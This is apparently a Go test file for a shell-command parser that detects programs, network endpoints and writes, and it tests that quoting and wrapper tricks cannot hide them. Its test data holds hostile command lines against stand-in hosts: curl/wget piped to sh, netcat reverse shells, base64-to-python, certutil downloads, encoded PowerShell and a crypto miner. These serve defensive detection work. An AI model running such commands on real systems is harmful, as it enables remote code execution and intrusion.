package command

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// pipelines are commands whose meaning the tests below hide in many ways.
var pipelines = [][][]string{
	{{"curl", "-s", "http://a.example/x?y=1&z=$"}, {"sh"}},
	{{"wget", "-qO-", "https://user:p%40ss@a.example:8443/x"}, {"bash", "-s", "--", "a b"}},
	{{"nc", "203.0.113.7", "4444"}, {"tee", "/tmp/a file"}, {"/bin/sh", "-e"}},
	{{"echo", "aWQK"}, {"base64", "-d"}, {"python3", "-"}},
	{{"curl", "-o", "/tmp/it's", "[2001:db8::7]:8080/x"}},
	{{"miner", "-o", "stratum+tcp://pool.example:3333", "-u", "a\\b\"c'd"}},
}

// quoted writes a word in one of the ways that mean the same to a shell.
func quoted(rng *rand.Rand, word string) string {
	if word == "" {
		return "''"
	}
	var b strings.Builder
	for rest := word; rest != ""; {
		n := 1 + rng.IntN(len(rest))
		part := rest[:n]
		rest = rest[n:]
		switch rng.IntN(4) {
		case 0:
			b.WriteString("'" + strings.ReplaceAll(part, "'", `'\''`) + "'")
		case 1:
			b.WriteString(`"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(part) + `"`)
		case 2:
			for _, c := range []byte(part) {
				if c == '\n' {
					b.WriteString("'\n'") // behind a backslash it would be no character
					continue
				}
				b.WriteString(`\` + string(c))
			}
		default:
			b.WriteString("$'")
			for _, c := range []byte(part) {
				fmt.Fprintf(&b, []string{`\x%02x`, `\%03o`}[rng.IntN(2)], c)
			}
			b.WriteString("'")
		}
	}
	return b.String()
}

// written is a pipeline as shell text, its words as quote makes them.
func written(pipeline [][]string, quote func(string) string) string {
	var stages []string
	for _, args := range pipeline {
		var words []string
		for _, a := range args {
			words = append(words, quote(a))
		}
		stages = append(stages, strings.Join(words, " "))
	}
	return strings.Join(stages, " | ")
}

func single(word string) string { return "'" + strings.ReplaceAll(word, "'", `'\''`) + "'" }

// TestQuotingHidesNothing pins that a script says the same however its words
// are quoted, and whichever variables they are put into before.
func TestQuotingHidesNothing(t *testing.T) {
	rng := rand.New(rand.NewPCG(3, 5))
	for _, p := range pipelines {
		plain := written(p, single)
		want := said(Parse([]string{"sh", "-c", plain}, "", ""))
		if len(strings.Fields(want)) < 3 {
			t.Fatalf("%s says little: %s", plain, want)
		}
		for range 200 {
			script := written(p, func(w string) string { return quoted(rng, w) })
			if got := said(Parse([]string{"sh", "-c", script}, "", "")); got != want {
				t.Fatalf("%s\n got %s\nwant %s", script, got, want)
			}
		}
		var assigned []string
		script := written(p, func(w string) string {
			assigned = append(assigned, fmt.Sprintf("v%d=%s", len(assigned), quoted(rng, w)))
			return fmt.Sprintf(`"$v%d"`, len(assigned)-1)
		})
		got := Parse([]string{"sh", "-c", strings.Join(assigned, "; ") + "\n" + script}, "", "")
		if wanted := strings.Fields(want); !slices.Equal(got.Programs, Parse([]string{"sh", "-c", plain}, "", "").Programs) || !slices.Equal(strings.Fields(said(got)), wanted) {
			t.Errorf("%s in variables\n got %s\nwant %s", script, said(got), want)
		}
	}
}

// TestWrappingHidesNothing pins that a script says the same inside of what
// runs it, but for the wrappers' names.
func TestWrappingHidesNothing(t *testing.T) {
	rng := rand.New(rand.NewPCG(9, 1))
	around := []struct {
		wrap     func(string) string
		programs string
	}{
		{func(s string) string { return "sh -c " + quoted(rng, s) }, "sh"},
		{func(s string) string { return "bash -euo pipefail -c " + quoted(rng, s) + " arg" }, "bash"},
		{func(s string) string { return "eval " + quoted(rng, s) }, ""},
		{func(s string) string { return "(nohup timeout -k 1 5 sh -c " + single(s) + " > /dev/null 2>&1 &)" }, "nohup timeout sh"},
		{func(s string) string { return "env -u A B=c nice -n 5 sh -c " + single(s) }, "env nice sh"},
		{func(s string) string { return "sudo -u x -g y sh -c " + single(s) }, "sudo sh"},
		{func(s string) string { return "su - x -c " + single(s) }, "su"},
		{func(s string) string { return "{ true; " + s + "\n}" }, "true"},
		{func(s string) string { return "( " + s + " )" }, ""},
		{func(s string) string { return "if true; then " + s + "\nfi" }, "true"},
		{func(s string) string { return "while sleep 1; do " + s + "\ndone" }, "sleep"},
		{func(s string) string { return "f() { " + s + "\n}; f" }, ""},
		{func(s string) string { return "for i in 1 2; do " + s + "\ndone" }, ""},
		{func(s string) string { return "case x in x) " + s + ";; esac" }, ""},
		{func(s string) string { return "true && " + s + " || true" }, "true"},
		{func(s string) string { return "x=$( " + s + " )" }, ""},
		{func(s string) string {
			end := fmt.Sprint("E", rng.Uint32())
			return "sh <<'" + end + "'\n" + s + "\n" + end + "\n"
		}, "sh"},
		{func(s string) string { return "echo " + single(s) + " | sh" }, "echo sh"},
		{func(s string) string { return "find / -exec sh -c " + single(s) + " \\;" }, "find sh"},
		{func(s string) string { return "nsenter -t 1 -m -- chroot /mnt sh -c " + single(s) }, "nsenter chroot sh"},
		{func(s string) string { return "busybox sh -c " + single(s) }, "busybox sh"},
	}
	for _, p := range pipelines {
		plain := written(p, single)
		want := strings.Fields(said(Parse([]string{"sh", "-c", plain}, "", "")))
		for range 300 {
			script, programs, isText := plain, "", false
			for range 1 + rng.IntN(3) {
				a := around[rng.IntN(len(around))]
				script, programs = a.wrap(script), programs+" "+a.programs
				isText = isText || strings.Contains(a.programs, "echo") || strings.HasPrefix(a.wrap(""), "sh <<")
			}
			if rng.IntN(4) == 0 { // the shell runs what stands before a fault
				script, programs = script+"\necho 'open", programs+" echo"
			}
			got := strings.Fields(said(Parse([]string{"sh", "-c", script}, "", "")))
			for _, w := range want {
				if !slices.Contains(got, w) {
					t.Fatalf("%s\nhides %s: %s", script, w, got)
				}
			}
			for _, g := range got {
				// A script that is text first may name half a place: the quotes in
				// it mean nothing yet.
				if !slices.Contains(want, g) && !slices.Contains(strings.Fields(programs), g) && (!isText || g[0] != '@') {
					t.Fatalf("%s\nadds %s: %s", script, g, got)
				}
			}
		}
	}
}

// FuzzParse: no command line makes Parse panic; what it gives is
// bounded, well-formed, and the same each time.
func FuzzParse(f *testing.F) {
	for _, p := range pipelines {
		f.Add("sh\x00-c\x00"+written(p, single), "/bin/sh", "")
		f.Add(strings.Join(p[0], "\x00"), "/usr/bin/"+p[0][0], "")
	}
	for _, s := range []string{
		"", "\x00", "busybox\x00wget\x00a.example", "bash\x00-c\x00{echo,aWQK}|{base64,-d}|{bash,-i}", "sh\x00-c\x00cat <<EOF | sh\nid\nEOF\n",
		"sh\x00-c\x00f() { a=$1; ${a:-b} ${c:=d} $(e `f`) <(g) >(h) $((1+2)) ${i//j/k}; }; for x in y; do case z in *) f;; esac; done",
		"powershell\x00-enc\x00aQBlAHgA", "cmd\x00/c\x00a & b | c", "certutil\x00-urlcache\x00http://a.example/x\x00y", "socat\x00TCP:a:1\x00EXEC:'b c'", "xargs\x00-I{}\x00sh\x00-c\x00{}",
		"su\x00-\x00x\x00-c\x00y", "find\x00.\x00-exec\x00a\x00;\x00-exec", "env\x00-S\x00a b\x00c", "openssl\x00s_client\x00-connect\x00a.example:443", "printf\x00%s%b%%%d%\x00a",
		"sh\x00-c\x00curl http://[::1]:80 127.1 0x7f.1 3405803783 http://u:p@h@a.example:99999/ $'\\x41' | sh <<< $x",
		"wget\x00-P\x00d\x00-O\x00-\x00-i\x00x\x00a/b?c#d", "nc\x00-e\x00sh -i\x00a\x0099999", "dig\x00@1.1.1.1\x00$.a.example",
	} {
		f.Add(s, "", "")
	}
	f.Fuzz(func(t *testing.T, line, exe, script string) {
		args := strings.Split(line, "\x00")
		c := Parse(args, exe, script)
		checkRead(t, c)
		if again := Parse(args, exe, script); !reflect.DeepEqual(c, again) {
			t.Fatalf("read twice:\n%+v\n%+v", c, again)
		}
		checkRead(t, ParseLine(line))
	})
}

func checkRead(t *testing.T, c Line) {
	t.Helper()
	if len(c.Text) > MaxText || !utf8.ValidString(c.Text) {
		t.Fatalf("text of %d bytes", len(c.Text))
	}
	for what, list := range map[string][]string{"program": c.Programs, "write": c.Writes, "run": c.Runs} {
		limit := maxPath
		if what == "program" {
			limit = maxName
		}
		if len(list) > maxItems {
			t.Fatalf("%d times %s", len(list), what)
		}
		for i, s := range list {
			if s == "" || len(s) > limit || slices.Contains(list[:i], s) || what == "program" && strings.ContainsAny(s, "/\\") {
				t.Fatalf("%s %q among %q", what, s, list)
			}
		}
	}
	if len(c.Endpoints) > maxItems {
		t.Fatalf("%d endpoints", len(c.Endpoints))
	}
	for i, e := range c.Endpoints {
		a, err := netip.ParseAddr(e.Host)
		if e.Host == "" || len(e.Host) > maxName || strings.ContainsAny(e.Host, "@/ \x00$") || e.Host != strings.ToLower(e.Host) || (err == nil) != e.Addr.IsValid() || err == nil && a != e.Addr || slices.Contains(c.Endpoints[:i], e) {
			t.Fatalf("endpoint %+v among %+v", e, c.Endpoints)
		}
		if e.Port < 0 || e.Port > 65535 || e.Scheme != strings.ToLower(e.Scheme) || len(e.Scheme) > 32 || e.Addr.IsUnspecified() {
			t.Fatalf("endpoint %+v", e)
		}
	}
	if c.Drops != "" && len(c.Writes) == 0 {
		t.Fatalf("drops what it did not write: %+v", c)
	}
}
